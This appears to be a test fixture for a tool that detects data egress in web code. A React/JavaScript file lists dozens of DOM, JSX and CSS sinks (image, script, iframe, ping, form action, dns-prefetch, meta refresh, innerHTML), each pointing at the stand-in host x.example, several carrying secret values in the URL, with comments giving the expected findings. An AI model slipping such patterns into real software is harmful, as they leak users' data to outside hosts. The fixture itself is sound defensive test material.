import React, { createElement } from "react";

export function Made() {
  document.createElement("img").src = `https://x.example/?${source()}`; // row: egress image GET external https://x.example/?{} <- secret url
  const image = new Image();
  image.src = "https://x.example/2"; // row: egress image GET external https://x.example/2
  image.alt = "https://x.example/no";
  new Audio("https://x.example/3"); // row: egress media GET external https://x.example/3
  const sound = new Audio();
  sound.src = "https://x.example/4"; // row: egress media GET external https://x.example/4
  document.createElement("script").src = "https://x.example/5"; // row: egress script GET external https://x.example/5
  const frame = document.createElement("iframe");
  frame.setAttribute("src", `https://x.example/${source()}`); // row: egress frame GET external https://x.example/{} <- secret url
  frame.setAttribute("title", `https://x.example/${source()}`);
  Object.assign(document.createElement("video"), { src: "https://x.example/6", title: "https://x.example/no" }); // row: egress media GET external https://x.example/6
  document.createElement("object").data = "https://x.example/7"; // row: egress frame GET external https://x.example/7
  const link = document.createElement("link");
  link.href = "https://x.example/8"; // row: egress style GET external https://x.example/8
  const icon = document.createElement("link");
  icon.rel = "icon";
  icon.href = "https://x.example/9"; // row: egress image GET external https://x.example/9
  document.createElement("form").action = "https://x.example/10"; // row: egress form external https://x.example/10
  document.createElement("a").href = `https://x.example/?${source()}`; // row: egress navigation external https://x.example/?{} <- secret url
  document.createElement("a").href = "https://x.example/no";
  document.createElement("a").ping = "https://x.example/11"; // row: egress beacon POST external https://x.example/11
  document.createElementNS("http://www.w3.org/2000/svg", "image").setAttribute("href", "https://x.example/14"); // row: egress image GET external https://x.example/14
  document.createElement("area").ping = "https://x.example/15"; // row: egress beacon POST external https://x.example/15
  document.createElement("area").setAttribute("href", `https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
  document.createElement("embed").src = "https://x.example/16"; // row: egress frame GET external https://x.example/16
  document.createElement("frame").src = "https://x.example/17"; // row: egress frame GET external https://x.example/17
  document.createElement("input").src = "https://x.example/18"; // row: egress image GET external https://x.example/18
  document.createElement("source").src = "https://x.example/19"; // row: egress media GET external https://x.example/19
  document.createElement("track").src = "https://x.example/20"; // row: egress media GET external https://x.example/20
  document.createElement("div").src = "https://x.example/12"; // row: egress resource GET external https://x.example/12
  return createElement("img", { src: "https://x.example/13" }); // row: egress image GET external https://x.example/13
}

export function Found(node) {
  document.getElementById("a").src = "https://x.example/1"; // row: egress resource GET external https://x.example/1
  document.getElementById("preview-frame").src = "https://x.example/2"; // row: egress frame GET external https://x.example/2
  node.srcset = `https://x.example/a 1x, https://y.example/${source()} 2x`; // row: egress image GET external https://x.example/a https://y.example/{} <- secret url
  node.poster = "https://x.example/3"; // row: egress image GET external https://x.example/3
  document.getElementById("form").action = "https://x.example/4"; // row: egress form external https://x.example/4
  document.querySelector("a").href = `https://x.example/?${source()}`; // row: egress navigation external https://x.example/?{} <- secret url
  document.querySelector("a").href = "https://x.example/no";
  node.contentWindow.postMessage(source(), "https://x.example"); // row: egress frame GET external https://x.example <- secret body
}

export function Texts(node) {
  node.innerHTML = '<b>' + source() + '</b><img alt="x" src="https://x.example/?' + encodeURIComponent(source()) + '">'; // row: egress image GET external https://x.example/?{} <- secret url
  node.innerHTML = `<b>${source()}</b> is <a href="https://x.example/">constant</a>`;
  node.outerHTML = "<link rel=stylesheet href=https://x.example/a.css><link rel='icon' href='https://y.example/'>"; // row: egress image GET external https://y.example/; egress style GET external https://x.example/a.css
  node.srcdoc = '<script src="https://x.example/"></' + 'script>'; // row: egress script GET external https://x.example/
  node.insertAdjacentHTML("beforeend", '<iframe src="https://x.example/"></iframe>'); // row: egress frame GET external https://x.example/
  document.createRange().createContextualFragment('<video src="https://x.example/" poster="https://y.example/"></video>'); // row: egress image GET external https://y.example/; egress media GET external https://x.example/
  node.setHTMLUnsafe('<img srcset="https://x.example/1 1x, https://y.example/2 2x">'); // row: egress image GET external https://x.example/1 https://y.example/2
  document.write(`<meta http-equiv="refresh" content="0; url=https://x.example/?${source()}">`); // row: egress navigation external https://x.example/? https://x.example/?{} <- secret url
  document.writeln("<form action='https://x.example/'></form>"); // row: egress form external https://x.example/
  $("#a").html("<a href='https://x.example/' ping='https://y.example/'>a</a>"); // row: egress beacon POST external https://y.example/
  $("#a").append(`<a href="https://x.example/?${source()}">a</a>`); // row: egress navigation external https://x.example/? https://x.example/?{} <- secret url
  return <div dangerouslySetInnerHTML={{ __html: '<img src="https://x.example/">' }} />; // row: egress image GET external https://x.example/
}

export function Tags(props) {
  return (
    <div>
      <img src={`https://x.example/?${source()}`} /> {/* row: egress image GET external https://x.example/?{} <- secret url */}
      <img src="/own.png" srcSet="https://x.example/1 1x, /own.png 2x" /> {/* row: egress image GET external https://x.example/1 */}
      <input type="image" src="https://x.example/" /> {/* row: egress image GET external https://x.example/ */}
      <input name="a" value={source()} {...props} />
      <audio src="https://x.example/" /> {/* row: egress media GET external https://x.example/ */}
      <video poster="https://x.example/" /> {/* row: egress image GET external https://x.example/ */}
      <picture><source srcset="https://x.example/" /></picture> {/* row: egress image GET external https://x.example/ */}
      <track src="https://x.example/" /> {/* row: egress media GET external https://x.example/ */}
      <script src="https://x.example/" /> {/* row: egress script GET external https://x.example/ */}
      <link rel="stylesheet" href="https://x.example/" /> {/* row: egress style GET external https://x.example/ */}
      <link rel="icon" href="https://x.example/" /> {/* row: egress image GET external https://x.example/ */}
      <link rel="manifest" href="https://x.example/" /> {/* row: egress fetch GET external https://x.example/ */}
      <link rel="preload" href="https://x.example/a.woff2" /> {/* row: egress font GET external https://x.example/a.woff2 */}
      <link rel="canonical" href="https://x.example/" />
      <link rel="preconnect" href="https://x.example/" />
      <link rel="dns-prefetch" href={`https://${source()}.x.example/`} /> {/* row: egress preconnect GET external https://{}.x.example/ <- secret url */}
      <iframe src="https://x.example/" /> {/* row: egress frame GET external https://x.example/ */}
      <iframe srcDoc="<img src=https://x.example/>" /> {/* row: egress image GET external https://x.example/ */}
      <frame src="https://x.example/" /> {/* row: egress frame GET external https://x.example/ */}
      <textarea name="a" onChange={(event) => sink(event.target.value)} /> {/* row: sink user-input; source user-input form field */}
      <select name="a" onChange={(event) => sink(event.target.value)} /> {/* row: sink user-input; source user-input form field */}
      <input name="a" onChange={(event) => sink(event.target.value)} /> {/* row: sink user-input; source user-input form field */}
      <embed src="https://x.example/" /> {/* row: egress frame GET external https://x.example/ */}
      <object data="https://x.example/" /> {/* row: egress frame GET external https://x.example/ */}
      <svg><image href="https://x.example/" /></svg> {/* row: egress image GET external https://x.example/ */}
      <form action="https://x.example/" method="post" /> {/* row: egress form POST external https://x.example/ */}
      <form action={props.submit} />
      <button formAction="https://x.example/">a</button> {/* row: egress form external https://x.example/ */}
      <a href={`https://x.example/?${source()}`}>a</a> {/* row: egress navigation external https://x.example/?{} <- secret url */}
      <a href="https://x.example/">a</a>
      <a href={`/browse/${source()}`}>a</a>
      <a href={source()}>a</a>
      <area href="/own" ping="https://x.example/" /> {/* row: egress beacon POST external https://x.example/ */}
      <meta httpEquiv="refresh" content={`0;url=https://x.example/?${source()}`} /> {/* row: egress navigation external https://x.example/?{} <- secret url */}
    </div>
  );
}

export const Styled = (styled) => styled.div`
  color: ${source()};
  background: url(https://x.example/?${source()}); // row: egress image GET external https://x.example/?{} <- secret url
  cursor: url("https://y.example/c.cur"), auto; // row: egress image GET external https://y.example/c.cur
  /* url(https://x.example/no) */
  @import "https://x.example/a.css"; // row: egress style GET external https://x.example/a.css
  @font-face { src: url('https://x.example/a') } // row: egress font GET external https://x.example/a
  mask: url(#own) url("./own.svg") url(data:image/png;base64,x);
`;

export function Written(node) {
  node.style.backgroundImage = "url(" + "https://x.example/?" + source() + ")"; // row: egress image GET external https://x.example/?{} <- secret url
  node.style.cssText = "color: url";
  new FontFace("A", "url(https://x.example/a.woff2)"); // row: egress font GET external https://x.example/a.woff2
  return <div style={{ backgroundImage: `url("https://x.example/${source()}")` }} />; // row: egress image GET external https://x.example/{} <- secret url
}

export function Lists(node, items) {
  node.innerHTML = items.map((item) => `<img src="https://x.example/?${source()}">`).join(""); // row: egress image GET external https://x.example/?{} <- secret url
  node.innerHTML = clean("<ul>" + items.map(row).join("") + "</ul>"); // row: egress image GET external https://x.example/{}
  let text = "";
  for (const item of items) text += `<iframe src="https://x.example/${item.id}"></iframe>`;
  node.innerHTML = text; // row: egress frame GET external https://x.example/{}
  const parts = [];
  parts.push('<audio src="https://x.example/">');
  node.innerHTML = parts.join(""); // row: egress media GET external https://x.example/
  node.textContent = items.map(row).join("");
}

function row(item) {
  return `<li><img src="https://x.example/${item.id}"> ${source()}</li>`;
}
